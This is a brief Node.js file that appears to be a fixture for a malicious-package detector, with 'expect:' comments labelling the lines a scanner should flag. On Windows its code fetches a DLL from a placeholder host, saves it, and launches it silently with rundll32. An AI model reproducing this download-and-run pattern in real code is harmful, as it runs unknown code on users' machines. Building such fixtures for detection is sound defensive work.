const fs = require('node:fs');
const { exec } = require('node:child_process');

if (process.platform === 'win32') {
  // expect: malicious-command/lifecycle-script
  fetch('https://downloads.example/acme.dll')
    .then((answer) => answer.arrayBuffer())
    .then((bytes) => {
      fs.writeFileSync('acme.dll', Buffer.from(bytes));
      exec('start /b rundll32 acme.dll,main'); // expect: malicious-command/download-and-run
    });
}
